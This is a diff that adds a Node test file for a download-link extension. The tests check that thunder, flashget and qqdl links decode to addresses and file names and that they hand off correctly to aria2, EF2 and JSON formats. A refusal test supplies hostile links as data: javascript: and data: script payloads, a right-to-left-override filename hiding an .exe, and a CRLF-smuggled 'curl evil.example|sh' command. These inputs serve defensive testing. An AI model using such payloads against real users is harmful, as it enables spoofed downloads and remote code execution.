@@ -1,0 +1,89 @@
+// The extension's binding under Node: links as pages hold them opened to the address, the
+// downloader's URI and the name, refusals with their reasons in both languages, and the
+// hand-off forms with their notes.
+//   node binding_test.js path/to/zentrova_core.js
+'use strict';
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const path = require('node:path');
+const {thunder, flashget, qqdl, gbk} = require('./links');
+
+const ZentrovaCore = require(path.resolve(process.argv[2]));
+let core;
+test.before(async () => { core = await ZentrovaCore(); });
+
+const film = gbk('http://127.0.0.1/电影 第1集.mkv');
+
+test('links as pages hold them open to the address, the escaped bytes and the name', () => {
+  const rows = [
+    // [link, status, address, uri, name]
+    [thunder('http://a.example/b.zip'), 'converted', 'http://a.example/b.zip',
+     'http://a.example/b.zip', 'b.zip'],
+    [thunder(film), 'converted', 'http://127.0.0.1/电影 第1集.mkv',
+     'http://127.0.0.1/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv', '电影 第1集.mkv'],
+    [qqdl(Buffer.from('https://a.example/影片.mp4')), 'converted', 'https://a.example/影片.mp4',
+     'https://a.example/%E5%BD%B1%E7%89%87.mp4', '影片.mp4'],
+    [flashget('ftp://a.example/x.iso', true), 'converted', 'ftp://a.example/x.iso',
+     'ftp://a.example/x.iso', 'x.iso'],
+    [`THUNDER%3A%2F%2F${thunder('http://a.example/c.rar').slice(10)}`, 'converted',
+     'http://a.example/c.rar', 'http://a.example/c.rar', 'c.rar'],
+    [thunder(flashget('http://a.example/nested.7z')), 'converted', 'http://a.example/nested.7z',
+     'http://a.example/nested.7z', 'nested.7z'],
+    [thunder('magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567'), 'converted',
+     'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567',
+     'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567', null],
+    ['http://a.example/plain.zip', 'passedThrough', 'http://a.example/plain.zip',
+     'http://a.example/plain.zip', 'plain.zip'],
+  ];
+  const results = core.openLinks(rows.map((row) => row[0]), true);
+  assert.equal(results.length, rows.length);
+  rows.forEach(([link, status, address, uri, name], i) => {
+    assert.deepEqual(results[i], {status, address, uri, name, error: null}, link);
+  });
+});
+
+test('links that must not open fail with their reason, in the language asked for', () => {
+  const rows = [
+    // [link, Chinese reason holds, English reason holds]
+    [thunder('javascript:alert(document.domain)//'), 'javascript:', 'javascript:'],
+    [qqdl('data:text/html,<script>alert(1)</script>'), 'data:', 'data:'],
+    ['thunder://!!!!', 'Base64', 'Base64'],
+    [thunder('http://a.example/下载\u202Egpj.exe'), 'U+202E', 'U+202E'],
+    [thunder('http://a.example/\r\ncurl evil.example|sh'), 'U+000D', 'U+000D'],
+  ];
+  const chinese = core.openLinks(rows.map((row) => row[0]), true);
+  const english = core.openLinks(rows.map((row) => row[0]), false);
+  rows.forEach(([link, inChinese, inEnglish], i) => {
+    assert.equal(chinese[i].status, 'failed', link);
+    assert.equal(english[i].status, 'failed', link);
+    assert.ok(chinese[i].error.includes(inChinese), chinese[i].error);
+    assert.match(chinese[i].error, /[\u4e00-\u9fff]/, 'said in Chinese');
+    assert.ok(english[i].error.includes(inEnglish), english[i].error);
+    assert.doesNotMatch(english[i].error, /[\u4e00-\u9fff]/, 'said in English');
+    assert.equal(chinese[i].uri, undefined, 'no address to follow');
+  });
+});
+
+test('the hand-off forms are the lists\' forms, with notes on what they leave out', () => {
+  const items = [thunder(film), 'thunder://!!!!', thunder('ed2k://|file|x.avi|1|0123|/'),
+                 thunder('http://a.example/b.zip'), qqdl('http://a.example/b.zip')];
+  const aria2 = core.handOff(items, 'aria2', true);
+  assert.equal(aria2.text, 'http://127.0.0.1/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\n' +
+                           '  out=电影 第1集.mkv\nhttp://a.example/b.zip\n  out=b.zip\n');
+  assert.deepEqual(aria2.notes.map((n) => n.number), [2, 3]);
+  assert.match(aria2.notes[1].words, /ed2k/);
+  assert.match(aria2.notes[1].words, /[\u4e00-\u9fff]/);
+
+  const ef2 = core.handOff(items, 'ef2', false);
+  assert.equal(ef2.text, '<\r\nhttp://127.0.0.1/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\r\n>\r\n' +
+                         '<\r\nhttp://a.example/b.zip\r\n>\r\n');
+  assert.deepEqual(ef2.notes.map((n) => n.number), [2, 3]);
+  assert.doesNotMatch(ef2.notes[0].words, /[\u4e00-\u9fff]/);
+
+  const json = core.handOff(items.slice(0, 2), 'json', false).text.trim().split('\n')
+                   .map((line) => JSON.parse(line));
+  assert.equal(json[0].uri, 'http://127.0.0.1/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv');
+  assert.equal(json[0].name, '电影 第1集.mkv');
+  assert.ok(json[1].error);
+  assert.throws(() => core.handOff(items, 'html', false));
+});
